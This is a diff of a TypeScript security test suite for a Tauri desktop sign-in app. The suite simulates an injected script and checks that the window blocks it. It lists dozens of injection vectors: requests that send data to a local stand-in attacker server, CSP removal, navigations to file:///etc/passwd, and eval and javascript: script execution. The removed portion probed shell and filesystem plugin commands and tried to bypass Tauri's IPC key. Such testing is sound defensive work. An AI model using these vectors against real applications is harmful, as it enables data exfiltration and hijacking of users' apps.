@@ -1,71 +1,25 @@
+/**
+ * What a script could do that got into the window: each attack is run from inside, with the driver in
+ * place of a vulnerability. The page's policy doesn't cover the driver's own scripts, so what the policy
+ * forbids is also tried through elements of the page's document.
+ */
 import assert from "node:assert/strict";
-import { once } from "node:events";
-import { readdirSync, readFileSync } from "node:fs";
-import { createServer, type Server } from "node:http";
-import type { AddressInfo } from "node:net";
-import { join } from "node:path";
 import type { WebDriver } from "selenium-webdriver";
-import { journey } from "../harness/journey";
-import { ROOT } from "../harness/paths";
-import { waitFor } from "../harness/processes";
-import { secretsIn } from "../harness/secrets";
+import { type Attacker, withAttacker } from "../harness/attacker";
 import type { Harness } from "../harness/harness";
+import { journey } from "../harness/journey";
+import { waitFor } from "../harness/processes";
+import { assertUnmoved } from "../harness/window";
 
-// What a script could do that got into the window, by whichever hole: each thing is tried from inside,
-// with the driver in the hole's place. The driver's own scripts are run in the page, but not by the
-// page's policy: so what a policy forbids is tried through the page's own document as well.
+/** How long the control's requests may take to arrive, in milliseconds. */
+const CONTROL_TIMEOUT = 5_000;
 
-/** A server that an attacker has: it notes who comes, and serves the page of the control. */
-class Attacker {
-  readonly visits: string[] = [];
-  readonly #server: Server;
-
-  private constructor() {
-    this.#server = createServer((request, response) => {
-      const path = (request.url ?? "").split("?")[0] ?? "";
-      this.visits.push(path);
-      response.setHeader("access-control-allow-origin", "*");
-      const kind = path.endsWith(".js") ? "text/javascript" : "text/html";
-      response.setHeader("content-type", kind);
-      response.end(path.endsWith(".js") ? "" : "<!doctype html><title>open</title><body>");
-    });
-    // A WebSocket's handshake is a visit too.
-    this.#server.on("upgrade", (request, socket) => {
-      this.visits.push(request.url ?? "");
-      socket.destroy();
-    });
-  }
-
-  static async start(): Promise<Attacker> {
-    const attacker = new Attacker();
-    attacker.#server.listen(0, "127.0.0.1");
-    await once(attacker.#server, "listening");
-    return attacker;
-  }
-
-  get address(): string {
-    return `http://127.0.0.1:${String((this.#server.address() as AddressInfo).port)}`;
-  }
-
-  stop(): void {
-    this.#server.close();
-    this.#server.closeAllConnections();
-  }
+/** Registers a journey with an attacker's server. */
+function attack(name: string, run: (harness: Harness, attacker: Attacker) => Promise<void>): void {
+  journey(name, (harness) => withAttacker(harness, run));
 }
 
-/** A journey with an attacker's server at hand. */
-function attack(name: string, play: (harness: Harness, attacker: Attacker) => Promise<void>): void {
-  journey(name, async (harness) => {
-    const attacker = await Attacker.start();
-    try {
-      await play(harness, attacker);
-    } finally {
-      attacker.stop();
-    }
-  });
-}
-
-/** Ways to reach a server without leaving the page. `to` is the server's address for each. */
+/** Ways to reach a server without leaving the page. `to` is the server's URL. */
 const REQUESTS: Record<string, string> = {
   fetch: "fetch(to)",
   "fetch without CORS": "fetch(to, { mode: 'no-cors', method: 'POST', body: 'x' })",
@@ -89,7 +43,7 @@ const REQUESTS: Record<string, string> = {
   preload: "add('link', { rel: 'preload', as: 'fetch', crossOrigin: 'anonymous', href: to })",
   modulepreload: "add('link', { rel: 'modulepreload', href: to + '.js' })",
   iframe: "add('iframe', { src: to })",
-  "frame with a document of its own": "add('iframe', { srcdoc: `<img src='${to}'>` })",
+  "frame with its own document": "add('iframe', { srcdoc: `<img src='${to}'>` })",
   object: "add('object', { data: to })",
   embed: "add('embed', { src: to })",
   "background of an element": "add('div', { textContent: 'x' }).style.background = `url(${to})`",
@@ -103,8 +57,8 @@ const REQUESTS: Record<string, string> = {
     "new Worker(URL.createObjectURL(new Blob([`fetch('${to}')`], { type: 'text/javascript' })))",
 };
 
-/** What makes a request in a browser of its own kind alone, or only from a page of the same origin. */
-const ALSO: Record<string, string> = {
+/** More ways, which only some browsers or only pages of the same origin request. */
+const UNCONTROLLED_REQUESTS: Record<string, string> = {
   prefetch: "add('link', { rel: 'prefetch', href: to })",
   "dns-prefetch": "add('link', { rel: 'dns-prefetch', href: to })",
   preconnect: "add('link', { rel: 'preconnect', href: to })",
@@ -116,12 +70,12 @@ const ALSO: Record<string, string> = {
   icon: "add('link', { rel: 'icon', href: to })",
   WebRTC:
     "new RTCPeerConnection({ iceServers: [{ urls: to.replace('http://', 'stun:').replace(/\\/[^/]*$/, '') }] }).createDataChannel('x')",
-  "policy taken off": "document.querySelector('meta[http-equiv]')?.remove(); fetch(to)",
-  "base of another place": "add('base', { href: to }); add('img', { src: 'picture' })",
+  "policy removed": "document.querySelector('meta[http-equiv]')?.remove(); fetch(to)",
+  "another base": "add('base', { href: to }); add('img', { src: 'picture' })",
 };
 
 /** Ways to leave the page. */
-const WAYS_OUT: Record<string, string> = {
+const NAVIGATIONS: Record<string, string> = {
   "location =": "location = to",
   "location.replace": "location.replace(to)",
   "window.open": "window.open(to)",
@@ -134,12 +88,12 @@ const WAYS_OUT: Record<string, string> = {
   "a form to a new window":
     "add('form', { action: to, method: 'post', target: '_blank' }).submit()",
   "a refresh": "add('meta', { httpEquiv: 'refresh', content: `0;url=${to}` })",
-  "a document written anew":
+  "a refresh in written markup":
     "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=${to}'>`)",
 };
 
-/** Ways to have text run as a script. Each would set `broken`. */
-const INLINE: Record<string, string> = {
+/** Ways to run text as a script. Each adds its name to `executed` where it works. */
+const INLINE_SCRIPTS: Record<string, string> = {
   eval: "try { eval(run) } catch { }",
   "new Function": "try { new Function(run)() } catch { }",
   "the constructor of a constructor": "try { [].at.constructor(run)() } catch { }",
@@ -158,11 +112,11 @@ const INLINE: Record<string, string> = {
   "a link to a script": "add('a', { href: 'javascript:' + run }).click()",
   "location = a script": "location = 'javascript:' + run",
   "frame of a script": "add('iframe', { src: 'javascript:parent.' + run })",
-  "frame with a document of its own": "add('iframe', { srcdoc: `<script>parent.${run}</script>` })",
+  "frame with its own document": "add('iframe', { srcdoc: `<script>parent.${run}</script>` })",
 };
 
-/** What each of these scripts has at hand. */
-const BESIDE = `
+/** The helpers that each of these scripts can call. */
+const HELPERS = `
   const add = (name, what = {}) => {
     const element = Object.assign(document.createElement(name), what);
     if (name === "object") element.data = what.data;
@@ -170,97 +124,117 @@ const BESIDE = `
     return element;
   };`;
 
-/** Runs one of them. What it throws is the wall. */
-async function tryIn(page: WebDriver, script: string, to = ""): Promise<void> {
+/** Runs one of them, and ignores what it throws: that is the page's protection. */
+async function runIn(page: WebDriver, script: string, to = "", name = ""): Promise<void> {
   await page
     .executeScript(
-      `const [to] = arguments; const run = "top.broken = true"; ${BESIDE}
+      `const [to, name] = arguments; const run = "top.executed.push(" + JSON.stringify(name) + ")";
+       ${HELPERS}
        try { const done = (() => { ${script} })(); done?.catch?.(() => undefined); } catch { }`,
       to,
+      name,
     )
-    // A script that leaves the page takes the driver's answer with it.
+    // A script that navigates takes the driver's response with it.
     .catch(() => undefined);
 }
 
-const AWHILE = 1_500;
-const wait = (milliseconds: number) => new Promise((go) => setTimeout(go, milliseconds));
-const nameIn = (address: string) => address.replace(/[^a-z]+/gi, "-");
+/**
+ * Waits until the page has run what earlier scripts left for later: timers, then loads, shown by those
+ * of a frame and a script, and navigations, which reach the app the same way as the command.
+ */
+async function settle(page: WebDriver): Promise<void> {
+  const settled = await page.executeAsyncScript<boolean>(`
+    const done = arguments[arguments.length - 1];
+    const loaded = (element) => new Promise((resolve) => {
+      element.onload = element.onerror = resolve;
+      document.body.append(element);
+    });
+    const timers = new Promise((resolve) => setTimeout(() => setTimeout(resolve)));
+    timers
+      .then(() => loaded(document.createElement("iframe")))
+      .then(() => loaded(Object.assign(document.createElement("script"), { src: "/no-such.js" })))
+      .then(() => window.__TAURI_INTERNALS__.invoke("app_state"))
+      .then(() => done(true), () => done(false));`);
+  assert.ok(settled, "the core answers");
+}
 
-/** The browser's own tab, with the attacker's page, which has no policy of its own. */
-async function openPage({ browser, desktop }: Harness, attacker: Attacker): Promise<WebDriver> {
+const slug = (name: string) => name.replace(/[^a-z]+/gi, "-");
+
+/** Opens the control in the browser: the attacker's page, which has no policy. */
+async function openControl({ browser, desktop }: Harness, attacker: Attacker): Promise<WebDriver> {
   await desktop.openUrl(`${attacker.address}/page`);
   return browser.waitForTab(`${attacker.address}/page`);
 }
 
-/** The app is where it was, with its one window. */
-async function isAtHome({ app, desktop }: Harness, state = "signed-out"): Promise<void> {
-  assert.match(await app.window.getCurrentUrl(), /^tauri:\/\/localhost\/?(index\.html)?#?$/);
-  assert.equal((await app.window.getAllWindowHandles()).length, 1);
-  const windows = (await desktop.run("wmctrl", ["-l"])).split("\n");
-  assert.equal(windows.filter((line) => line.includes("Sign in with Amiqus")).length, 1);
-  assert.equal(await app.bodyData("data-state"), state);
+/** The requests that neither the control nor its page made. */
+function uncontrolled({ requests }: Attacker): string[] {
+  return requests.filter((path) => !/^\/(control-.*|page|favicon\.ico)$/.test(path));
 }
 
 // Shows checks 37 and 38.
-attack(
-  "no script in the window reaches any server but through the core",
-  async (harness, attacker) => {
-    const { app } = harness;
-    await app.start();
-    await app.waitForState("signed-out");
-    for (const [name, script] of Object.entries({ ...REQUESTS, ...ALSO })) {
-      await tryIn(app.window, script, `${attacker.address}/${nameIn(name)}`);
-    }
-    await wait(AWHILE);
-    assert.deepEqual(attacker.visits, []);
-    await isAtHome(harness);
+attack("script in the window reaches no server", async (harness, attacker) => {
+  const { app } = harness;
+  await app.start();
+  await app.waitForState("signed-out");
+  for (const [name, script] of Object.entries({ ...REQUESTS, ...UNCONTROLLED_REQUESTS })) {
+    await runIn(app.window, script, `${attacker.address}/window-${slug(name)}`);
+  }
+  await settle(app.window);
+  await assertUnmoved(harness);
 
-    // The same, in a page that nothing protects: each of them gets there.
-    const page = await openPage(harness, attacker);
-    for (const [name, script] of Object.entries(REQUESTS)) {
-      await tryIn(page, script, `${attacker.address}/${nameIn(name)}`);
-    }
-    const missing = () =>
-      Object.keys(REQUESTS).filter(
-        (name) => !attacker.visits.some((visit) => visit.startsWith(`/${nameIn(name)}`)),
-      );
-    await waitFor("all of them reach the attacker", () => missing().length === 0, 5_000).catch(
-      () => undefined,
+  // The control: from an unprotected page each of them gets there. By the time that all of these have
+  // arrived, which started later, those of the window would have, too.
+  const control = await openControl(harness, attacker);
+  for (const [name, script] of Object.entries(REQUESTS)) {
+    await runIn(control, script, `${attacker.address}/control-${slug(name)}`);
+  }
+  const missing = () =>
+    Object.keys(REQUESTS).filter(
+      (name) => !attacker.requests.some((path) => path.startsWith(`/control-${slug(name)}`)),
     );
-    assert.deepEqual(missing(), []);
-  },
-);
+  await waitFor(
+    "all of them reach the attacker",
+    () => missing().length === 0,
+    CONTROL_TIMEOUT,
+  ).catch(() => undefined);
+  assert.deepEqual(missing(), []);
+  assert.deepEqual(uncontrolled(attacker), []);
+  await assertUnmoved(harness);
+});
 
 // Shows check 38.
-attack("no text becomes a script in the window", async (harness, attacker) => {
+attack("text is never run as a script in the window", async (harness, attacker) => {
   const { app } = harness;
-  const broken = async (page: WebDriver, script: string) => {
-    await page.executeScript("window.broken = false");
-    await tryIn(page, script);
-    for (let look = 0; look < 5; look += 1) {
-      await wait(60);
-      if ((await page.executeScript("return window.broken")) === true) return true;
+  const runAll = async (page: WebDriver) => {
+    await page.executeScript("window.executed = []");
+    for (const [name, script] of Object.entries(INLINE_SCRIPTS)) {
+      await runIn(page, script, "", name);
     }
-    return false;
   };
-  const whichBreak = async (page: WebDriver) => {
-    const which: string[] = [];
-    for (const [name, script] of Object.entries(INLINE)) {
-      if (await broken(page, script)) which.push(name);
-    }
-    return which;
+  const executed = async (page: WebDriver) => {
+    const names = await page.executeScript<string[]>("return window.executed");
+    return Object.keys(INLINE_SCRIPTS).filter((name) => names.includes(name));
   };
   await app.start();
   await app.waitForState("signed-out");
-  assert.deepEqual(await whichBreak(app.window), []);
-  await isAtHome(harness);
+  await runAll(app.window);
+  await settle(app.window);
+  assert.deepEqual(await executed(app.window), []);
+  await assertUnmoved(harness);
 
-  const page = await openPage(harness, attacker);
-  assert.deepEqual(await whichBreak(page), Object.keys(INLINE));
+  const control = await openControl(harness, attacker);
+  await runAll(control);
+  const all = Object.keys(INLINE_SCRIPTS);
+  await waitFor(
+    "all of them are executed",
+    async () => (await executed(control)).length === all.length,
+    CONTROL_TIMEOUT,
+  ).catch(() => undefined);
+  assert.deepEqual(await executed(control), all);
 });
 
 // Shows checks 1 and 37.
-attack("the window goes nowhere and opens nothing", async (harness, attacker) => {
+attack("window never navigates and opens nothing", async (harness, attacker) => {
   const { app, desktop } = harness;
   await app.start();
   await app.waitForState("signed-out");
@@ -274,278 +248,33 @@ attack("the window goes nowhere and opens nothing", async (harness, attacker) =>
     "asset://localhost/etc/passwd",
     "co.amiqus.signin://oauth/callback?code=made-up&state=made-up",
   ];
-  for (const [name, script] of Object.entries(WAYS_OUT)) {
-    await tryIn(app.window, script, `${attacker.address}/${nameIn(name)}`);
-    await wait(80);
-    await isAtHome(harness);
+  for (const [name, script] of Object.entries(NAVIGATIONS)) {
+    await runIn(app.window, script, `${attacker.address}/window-${slug(name)}`);
+    await settle(app.window);
+    await assertUnmoved(harness);
   }
   for (const address of elsewhere) {
     for (const way of ["location =", "a link", "window.open", "a link to a new window"]) {
-      await tryIn(app.window, WAYS_OUT[way] ?? "", address);
-      await wait(60);
-      await isAtHome(harness);
+      await runIn(app.window, NAVIGATIONS[way] ?? "", address);
+      await settle(app.window);
+      await assertUnmoved(harness);
     }
   }
-  await tryIn(app.window, "history.back(); history.go(-1); history.forward()");
-  await wait(AWHILE);
-  await isAtHome(harness);
-  assert.deepEqual(attacker.visits, []);
-  assert.equal((await harness.practice.requests("/oauth/authorize")).length, 0);
+  await runIn(app.window, "history.back(); history.go(-1); history.forward()");
+  await settle(app.window);
+  await assertUnmoved(harness);
 
-  const page = await openPage(harness, attacker);
-  for (const [name, script] of Object.entries(WAYS_OUT)) {
-    const path = `/${nameIn(name)}`;
-    await page.get(`${attacker.address}/page`);
-    await tryIn(page, script, attacker.address + path);
-    // Chromium opens a new window for a click alone.
+  // The control: by the time that each of these has arrived, those of the window would have, too.
+  const control = await openControl(harness, attacker);
+  for (const [name, script] of Object.entries(NAVIGATIONS)) {
+    const path = `/control-${slug(name)}`;
+    await control.get(`${attacker.address}/page`);
+    await runIn(control, script, attacker.address + path);
+    // Chromium opens a new window only for a user gesture.
     if (/new window|^window\.open$/.test(name)) continue;
-    await waitFor(`${name} leads there`, () => attacker.visits.includes(path), 5_000);
+    await waitFor(`${name} leads there`, () => attacker.requests.includes(path), CONTROL_TIMEOUT);
   }
+  assert.deepEqual(uncontrolled(attacker), []);
+  assert.equal((await harness.practice.requests("/oauth/authorize")).length, 0);
+  await assertUnmoved(harness);
 });
-
-/** Sends a command as the page's own scripts do; what the core answers, or why it refused. */
-async function invoke(
-  page: WebDriver,
-  command: string,
-  payload: unknown = {},
-): Promise<{ answer?: unknown; refused?: unknown }> {
-  return page.executeAsyncScript(
-    `const [command, payload, done] = arguments;
-     setTimeout(() => done({ refused: "no answer" }), 3_000);
-     window.__TAURI_INTERNALS__.invoke(command, payload).then(
-       (answer) => done({ answer }),
-       (refused) => done({ refused }),
-     );`,
-    command,
-    payload,
-  );
-}
-
-/** Every plugin command that Tauri's own library for windows can send. */
-function commandsOfTauri(): string[] {
-  const folder = join(ROOT, "node_modules/@tauri-apps/api");
-  const found = readdirSync(folder)
-    .filter((name) => name.endsWith(".js"))
-    .flatMap((name) => readFileSync(join(folder, name), "utf8").match(/plugin:[\w-]+\|\w+/g) ?? []);
-  return [...new Set(found)];
-}
-
-/** And of plugins: of those that this app has in it, and of those that attackers wish for. */
-const OF_PLUGINS = [
-  ..."initialize destroy save create_client load_client get_store_record save_store_record remove_store_record save_secret remove_secret execute_procedure"
-    .split(" ")
-    .map((name) => `plugin:stronghold|${name}`),
-  ..."get_current register unregister is_registered".split(" ").map((n) => `plugin:deep-link|${n}`),
-  "plugin:single-instance|execute_callback",
-  "plugin:opener|open_url",
-  "plugin:opener|open_path",
-  "plugin:opener|reveal_item_in_dir",
-  "plugin:shell|open",
-  "plugin:shell|execute",
-  "plugin:shell|spawn",
-  "plugin:fs|read_file",
-  "plugin:fs|read_text_file",
-  "plugin:fs|write_file",
-  "plugin:fs|read_dir",
-  "plugin:http|fetch",
-  "plugin:dialog|open",
-  "plugin:process|exit",
-  "plugin:process|restart",
-  "plugin:store|load",
-  "plugin:updater|check",
-  "plugin:updater|download_and_install",
-  "plugin:clipboard-manager|read_text",
-  "plugin:notification|notify",
-  "plugin:os|hostname",
-  "plugin:webview|internal_toggle_devtools",
-  "plugin:event|listen",
-];
-
-/** Arguments with which a command would do something, were it allowed. */
-const ARGUMENTS = {
-  event: "deep-link://new-url",
-  target: { kind: "Any" },
-  handler: 1,
-  eventId: 1,
-  payload: "x",
-  rid: 0,
-  label: "main",
-  value: true,
-  options: { label: "another", url: "https://example.com" },
-  url: "https://example.com",
-  path: "/etc/passwd",
-  directory: 1,
-  protocol: "co.amiqus.signin",
-  snapshotPath: "/tmp/vault.stronghold",
-  password: "x",
-  client: "sign-in-with-amiqus",
-  key: [1],
-  code: 0,
-};
-
-// Shows check 37.
-journey(
-  "no command of a plugin is the window's to send, the vault's least of all",
-  async (harness) => {
-    const { app } = harness;
-    await app.start();
-    await harness.signIn();
-    const commands = [...new Set([...commandsOfTauri(), ...OF_PLUGINS])];
-    assert.ok(commands.length > 150, String(commands.length));
-    const allowed: string[] = [];
-    for (const command of [...commands, "plugin:no-such|command"]) {
-      const { refused } = await invoke(app.window, command, ARGUMENTS);
-      // Refused for what it is, not for its arguments.
-      if (!String(refused).includes("not allowed")) allowed.push(`${command}: ${String(refused)}`);
-    }
-    assert.deepEqual(allowed, []);
-    await isAtHome(harness, "signed-in");
-    const unknown = await invoke(app.window, "no_such_command");
-    assert.match(String(unknown.refused), /not (allowed|found)/);
-    // The same way, a command of the app's own is heard.
-    const { answer } = await invoke(app.window, "app_state");
-    assert.ok(JSON.stringify(answer).includes("Bob Gale"));
-
-    // Past Tauri's own script, where the key that it keeps to itself is missing.
-    const past = await app.window.executeAsyncScript<string[]>(`
-    const done = arguments[arguments.length - 1];
-    const tries = [{}, { "Tauri-Invoke-Key": "" }, { "Tauri-Invoke-Key": "guessed" }].map((headers) =>
-      fetch("ipc://localhost/app_state", {
-        method: "POST",
-        body: "{}",
-        headers: { "Content-Type": "application/json", "Tauri-Callback": "1", "Tauri-Error": "2", ...headers },
-      }).then((response) => response.text(), String));
-    window.webkit?.messageHandlers?.ipc?.postMessage(
-      JSON.stringify({ cmd: "cancel", callback: 1, error: 2, payload: {}, options: {}, __TAURI_INVOKE_KEY__: "x" }));
-    const noAnswer = new Promise((done) => setTimeout(done, 2_000, "no answer"));
-    Promise.all(tries.map((tried) => Promise.race([tried, noAnswer]))).then(done);`);
-    for (const answered of past) assert.ok(!answered.includes("Bob Gale"), answered);
-    await isAtHome(harness, "signed-in");
-  },
-);
-
-// Shows checks 39 and 40.
-attack(
-  "the app's own commands give nothing away, whatever they are told",
-  async (harness, attacker) => {
-    const { app, practice, desktop } = harness;
-    await app.start();
-    await app.waitForState("signed-out");
-    const seen: unknown[] = [];
-    const tell = async (command: string, payload?: unknown) => {
-      const said = await invoke(app.window, command, payload);
-      seen.push(said);
-      return said;
-    };
-    /** A channel of one's own, as the window has one for the state. */
-    await app.window.executeScript(`
-    window.heard = [];
-    const id = window.__TAURI_INTERNALS__.transformCallback((message) => window.heard.push(message));
-    window.__TAURI_INTERNALS__.invoke("follow", { states: "__CHANNEL__:" + id });`);
-
-    const opened = () =>
-      desktop.processIds((command) => command.includes("chrom") || command.includes("xdg-open"));
-    for (const page of [
-      "https://example.com",
-      "file:///etc/passwd",
-      `${attacker.address}/`,
-      "",
-      1,
-      null,
-    ]) {
-      const { refused } = await tell("open_page", { page });
-      assert.match(String(refused), /invalid args/, String(page));
-    }
-    assert.deepEqual(opened(), [], "no browser opened");
-
-    await harness.startSignIn();
-    await harness.consentPage();
-    const nonsense = [
-      "",
-      "nonsense",
-      "co.amiqus.signin://oauth/callback?code=made-up&state=made-up",
-      `${attacker.address}/?code=1&state=2`,
-      "\u0000",
-      `co.amiqus.signin://oauth/callback?code=${"9".repeat(5_000_000)}&state=1`,
-    ];
-    for (const address of nonsense) {
-      const { refused } = await tell("exchange", { address });
-      assert.ok(refused !== undefined, address.slice(0, 80));
-    }
-    await tell("exchange", { address: { href: "x" } });
-    assert.equal(await practice.tokenRequests(), 0, "no code was posted");
-    await app.waitForState("awaiting-browser");
-    await harness.consent();
-    await app.waitForState("signed-in");
-    await app.waitForText("Bob Gale");
-
-    const { answer } = await tell("app_state");
-    const { current } = answer as { current: string };
-    for (const account of ["", "another", "../..", `${current}0`, current.toUpperCase() + " "]) {
-      assert.ok((await tell("sign_out", { account })).refused, account);
-      assert.ok((await tell("switch_account", { account })).refused, account);
-    }
-    // What IT set up stays, and no other service is asked for anything: not even with the secret left
-    // out, for which the one in force stands in.
-    const draft = {
-      client_id: practice.ready.client_id,
-      client_secret: "",
-      redirect_url: null,
-      base_url: attacker.address,
-      organisation: "Biff's",
-      pkce: false,
-    };
-    for (const client_secret of ["", "guessed"]) {
-      for (const command of ["check_registration", "save_registration"]) {
-        const { refused } = await tell(command, { draft: { ...draft, client_secret } });
-        assert.ok(refused !== undefined, command);
-      }
-    }
-    await tell("change_setup");
-    assert.ok((await tell("start_over")).refused);
-    await tell("unlock", { passphrase: null });
-    await tell("unlock", { passphrase: "a wrong passphrase" });
-    await tell("choose_passphrase", { passphrase: "a passphrase of the attacker's" });
-    for (const command of [
-      "refresh",
-      "me",
-      "open_browser_again",
-      "finish_sign_in",
-      "forget_sign_in",
-      "cancel",
-      "authorize",
-      "cancel",
-    ]) {
-      await tell(command);
-    }
-    for (const command of ["this_computer", "take_links_back", "save_report", "app_state"]) {
-      await tell(command);
-    }
-    await tell("start_at_login", { on: "yes" });
-    for (const fault of ["<script>", "drawing\nforged", { Drawing: "forged" }, 1, null]) {
-      assert.ok((await tell("report_fault", { fault })).refused, JSON.stringify(fault));
-    }
-    assert.doesNotMatch(desktop.appLog(), /forged|page failed/);
-    await app.waitForState("signed-in");
-    await app.waitForText("Bob Gale");
-    assert.deepEqual(attacker.visits, []);
-
-    // All that came down, and all that the page holds; then the last secrets are learnt, by using them.
-    const page = await app.window.executeScript(
-      "return [window.heard, document.documentElement.outerHTML, document.cookie, { ...localStorage }]",
-    );
-    const given = JSON.stringify([seen, page]);
-    assert.ok(
-      given.includes("awaiting-browser") && given.includes("exchanging-code"),
-      "it was heard",
-    );
-    const before = await practice.tokenRequests();
-    await app.press("Renew now");
-    await practice.waitForTokenRequests(before + 1);
-    const secrets = await practice.secrets();
-    assert.ok(secrets.length >= 8, String(secrets.length));
-    assert.deepEqual(secretsIn(given, secrets), []);
-    // The search finds what is there.
-    assert.equal(secretsIn(`${given}${secrets[0] ?? ""}`, secrets).length, 1);
-  },
-);
